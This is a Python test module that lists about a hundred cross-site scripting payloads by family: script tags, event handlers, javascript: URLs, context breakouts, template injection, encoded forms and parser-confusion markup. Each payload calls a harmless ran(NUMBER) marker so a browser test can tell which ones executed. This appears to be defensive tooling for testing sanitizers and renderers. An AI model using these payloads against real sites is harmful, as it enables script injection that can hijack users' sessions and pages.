"""A hundred ways in which a page may try to run a script in whatever shows it, by families.

Every one that runs calls `window.ran(number)`, so that a browser can be asked which did. NUMBER stands for its number.
"""

from __future__ import annotations

from itertools import zip_longest

RUN = "ran(NUMBER)"

FAMILIES: dict[str, list[str]] = {
    "script elements": [
        f"<script>{RUN}</script>",
        f"<ScRiPt >{RUN}</sCrIpT >",
        f"<script\n>{RUN}\n</script\n>",
        f"<script/x>{RUN}</script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<script>{RUN}//",
        f'<script type="module">{RUN}</script>',
        f"<script src='data:text/javascript,{RUN}'></script>",
        f"<script\x00>{RUN}</script>",
        f"<svg><script>{RUN}</script></svg>",
        f"<math><script>{RUN}</script></math>",
        f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
    ],
    "events of elements": [
        f"<img src=x onerror={RUN}>",
        f"<img src=x onerror='{RUN}'",
        f"<IMG SRC=x OnErRoR={RUN}>",
        f"<img/src=x/onerror={RUN}/>",
        f"<svg onload={RUN}>",
        f"<svg/onload={RUN}//",
        f"<body onload={RUN}>",
        f"<body onpageshow={RUN}>",
        f"<details open ontoggle={RUN}>x</details>",
        f"<input autofocus onfocus={RUN}>",
        f"<select autofocus onfocus={RUN}></select>",
        f"<textarea autofocus onfocus={RUN}></textarea>",
        f"<video src=x onerror={RUN}></video>",
        f"<video><source onerror={RUN}></video>",
        f"<audio src=x onerror={RUN}></audio>",
        f"<object data=x onerror={RUN}></object>",
        f"<iframe onload={RUN}></iframe>",
        f"<style onload={RUN}></style>",
        f"<link rel=stylesheet href=x onerror={RUN}>",
        f"<a tabindex=0 autofocus onfocus={RUN}>x</a>",
        f"<div style='animation:x 1s' onanimationstart={RUN}>x</div><style>@keyframes x{{}}</style>",
        f"<marquee onstart={RUN}>x</marquee>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<p onpointerenter={RUN} style='position:fixed;inset:0'>x</p>",
    ],
    "addresses that are scripts": [
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"java\tscript:{RUN}",
        f"java\nscript:{RUN}",
        f"\x01javascript:{RUN}",
        f" javascript:{RUN}",
        f"javascript://news.example/%0a{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        f"vbscript:{RUN}",
        f"&#106;avascript:{RUN}",
        f"javascript&colon;{RUN}",
        f"<a href='javascript:{RUN}' autofocus>x</a>",
        f"<iframe src='javascript:parent.{RUN}'></iframe>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<form action='javascript:{RUN}'><button autofocus>x</button></form>",
        f"<embed src='javascript:{RUN}'>",
        f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
        f"<svg><use href='data:image/svg+xml,<svg onload={RUN}/>'/></svg>",
    ],
    "ways out of where a text stands": [
        f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
        f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
        f"x onfocus={RUN} autofocus tabindex=0 ",
        f"` onfocus={RUN} autofocus `",
        f'"><script>{RUN}</script>',
        f"'><img src=x onerror={RUN}>",
        f"</title><script>{RUN}</script>",
        f"</textarea><script>{RUN}</script>",
        f"</style><script>{RUN}</script>",
        f"</script><script>{RUN}</script>",
        f"--><script>{RUN}</script>",
        f"--!><img src=x onerror={RUN}>",
        f"]]><script>{RUN}</script>",
        f"</noscript><script>{RUN}</script>",
        f"</pre></code></blockquote><script>{RUN}</script>",
        f"</option></select><script>{RUN}</script>",
        f"</template><script>{RUN}</script>",
    ],
    "ways out of scripts and data": [
        f'"}}]}};{RUN};//',
        f"';{RUN};//",
        f"\\';{RUN};//",
        f"\u2028{RUN}\u2029//",
        f"<!--<script>{RUN}",
        f'{{"@type":"x"}}</script><script>{RUN}</script>',
        f"${{{RUN}}}",
        f"{{{{constructor.constructor('{RUN}')()}}}}",
        f"{{% debug %}}{{{{ request }}}}<script>{RUN}</script>",
        f"=HYPERLINK(\"javascript:{RUN}\",\"x\")",
    ],
    "letters in other clothes": [
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
        f"%3Cscript%3E{RUN}%3C/script%3E",
        f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
        f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
        f"\u202e<script>{RUN}</script>",
        f"<scr\u200bipt>{RUN}</scr\u200bipt><script>{RUN}</script>",
    ],
    "what parsers make of half markup": [
        f"<svg><style><img src=x onerror={RUN}></style>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
        f"<select><template><img src=x onerror={RUN}></template></select>",
        f"<table><td><svg><desc><td></desc><script>{RUN}</script>",
        f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
        f"<!DOCTYPE x [<!ENTITY e '<script>{RUN}</script>'>]>&e;",
    ],
    "the page itself": [
        f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
        f"<base href='javascript:{RUN}//'>",
        "<form name=body><input name=firstChild></form><img name=getElementById id=cookie>"
        f"<script>{RUN}</script>",
        f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></html>",
        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
        f"<?xml-stylesheet href='javascript:{RUN}'?><script>{RUN}</script>",
    ],
}  # fmt: skip


def vectors(count: int = 100) -> list[tuple[int, str, str]]:
    """(number, family, text) of the first `count` vectors, a first one of each family, then a second, and so on."""
    rows = zip_longest(*([(family, text) for text in texts] for family, texts in FAMILIES.items()))
    found = [one for row in rows for one in row if one is not None][:count]
    return [(number, family, text.replace("NUMBER", str(number))) for number, (family, text) in enumerate(found, 1)]
